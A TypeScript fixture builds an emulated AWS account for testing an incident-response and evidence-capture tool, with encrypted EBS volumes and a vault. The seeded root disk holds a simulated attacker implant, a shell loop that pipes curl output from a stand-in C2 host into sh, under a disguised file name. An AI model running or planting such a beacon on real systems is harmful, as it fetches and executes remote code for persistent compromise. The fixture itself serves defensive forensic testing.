import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import {
  AttachVolumeCommand,
  CreateVolumeCommand,
  DescribeInstancesCommand,
  waitUntilVolumeAvailable,
} from '@aws-sdk/client-ec2';
import {
  type ClientOptions,
  createEvidenceClients,
  createIsolationClients,
  createLedgerClients,
  type EvidenceClients,
  type IsolationClients,
  type LedgerClients,
} from '../lambdas/core/clients';
import { buildExt4Image } from '../local-aws/disk-image';
import { seedVolume } from '../local-aws/ebs-bridge/seed';
import { createLedgerTable } from '../local-aws/ledger-table';
import { LOCAL_CREDENTIALS } from '../local-aws/moto-server';
import { buildScenario, type Scenario } from '../local-aws/scenario';
import { createVault } from '../local-aws/vault';
import { createVolumeKey } from '../local-aws/volume-key';

export const DEMO_REGION = 'eu-west-1';
export const DEMO_ACCOUNT = '123456789012';
export const LEDGER_TABLE = 'sequester-ledger';
export const VAULT_BUCKET = 'sequester-evidence-vault';
/** The attacker's implant, planted on the web server's root filesystem. */
export const PLANTED_PATH = '/var/tmp/.cache/kworkerd';

export interface DemoAccount {
  readonly endpoint: string;
  readonly opts: ClientOptions;
  readonly clients: IsolationClients;
  readonly evidence: EvidenceClients;
  readonly ledger: LedgerClients;
  readonly vaultBucket: string;
  readonly scenario: Scenario;
  readonly volumes: ReadonlyArray<{ volumeId: string; deviceName: string; seeded: string }>;
  /** The implant, and how many leading bytes of the root disk its filesystem occupies. */
  readonly planted: { readonly path: string; readonly content: Buffer; readonly fsBytes: number };
}

/**
 * A small production account on the emulator: the web tier from local-aws/scenario.ts (two ENIs, an Auto
 * Scaling group and target group, a role shared with a healthy twin) plus what makes the evidence real:
 * a 1 GiB root volume holding an ext4 filesystem with the attacker's implant, and a 1 GiB data volume,
 * both encrypted with a customer-managed KMS key.
 * 1 GiB is the smallest EBS volume; the images are full-size raw disks, as on AWS.
 */
export async function buildDemoAccount(endpoint: string): Promise<DemoAccount> {
  const opts: ClientOptions = {
    region: DEMO_REGION,
    endpoint,
    credentials: LOCAL_CREDENTIALS,
    maxAttempts: 3,
  };
  const clients = createIsolationClients(opts);
  const evidence = createEvidenceClients(opts);
  const ledger = createLedgerClients(opts, LEDGER_TABLE);
  await createLedgerTable(ledger);
  const vault = await createVault(evidence.s3, opts, VAULT_BUCKET);
  // Both disks are encrypted with the workload's customer-managed key (EBS encryption by default on a
  // CMK): the export reads them through that key.
  const volumeKey = await createVolumeKey(opts, 'web tier EBS volumes');
  const scenario = await buildScenario(clients, {
    secondEni: true,
    inService: true,
    name: 'web',
    rootVolumeGiB: 1,
    volumeKmsKeyId: volumeKey,
  });
  const instance = (
    await clients.ec2.send(new DescribeInstancesCommand({ InstanceIds: [scenario.instanceId] }))
  ).Reservations?.[0]?.Instances?.[0];
  const zone = instance?.Placement?.AvailabilityZone ?? `${DEMO_REGION}a`;
  const rootVolumeId =
    instance?.BlockDeviceMappings?.find((b) => b.DeviceName === '/dev/xvda')?.Ebs?.VolumeId ?? '';
  const data = await clients.ec2.send(
    new CreateVolumeCommand({
      AvailabilityZone: zone,
      Size: 1,
      VolumeType: 'gp3',
      Encrypted: true,
      KmsKeyId: volumeKey,
      TagSpecifications: [{ ResourceType: 'volume', Tags: [{ Key: 'Name', Value: 'web-1-data' }] }],
    }),
  );
  const dataVolumeId = data.VolumeId ?? '';
  await waitUntilVolumeAvailable({ client: clients.ec2, maxWaitTime: 30 }, { VolumeIds: [dataVolumeId] });
  await clients.ec2.send(
    new AttachVolumeCommand({ VolumeId: dataVolumeId, InstanceId: scenario.instanceId, Device: '/dev/sdf' }),
  );
  const implant = Buffer.concat([
    Buffer.from('#!/bin/sh\n# dropped by the attacker: beacons to the C2 domain GuardDuty saw\n'),
    Buffer.from('while true; do curl -s http://c2.malicious-example.net/b | sh; sleep 60; done\n'),
    randomBytes(48 * 1024),
  ]);
  const rootImage = buildExt4Image({
    [PLANTED_PATH]: implant,
    'etc/hostname': 'web-1\n',
    'var/www/html/index.html': '<h1>shop</h1>\n',
  });
  // The data volume: a few scattered written blocks, the rest never written (sparse, as EBS reports it).
  const dataImage = Buffer.alloc(64 * 1024 * 1024);
  for (const at of [0, 9, 33, 63]) randomBytes(512 * 1024).copy(dataImage, at * 1024 * 1024);
  const rootBytes = readFileSync(rootImage);
  await seedVolume(endpoint, { region: DEMO_REGION, volumeId: rootVolumeId, data: rootBytes });
  await seedVolume(endpoint, { region: DEMO_REGION, volumeId: dataVolumeId, data: dataImage });
  return {
    endpoint,
    opts,
    clients,
    evidence,
    ledger,
    vaultBucket: vault.bucket,
    scenario,
    volumes: [
      { volumeId: rootVolumeId, deviceName: '/dev/xvda', seeded: 'ext4 root filesystem with the implant' },
      { volumeId: dataVolumeId, deviceName: '/dev/sdf', seeded: 'data volume, 4 written blocks' },
    ],
    planted: { path: PLANTED_PATH, content: implant, fsBytes: rootBytes.length },
  };
}
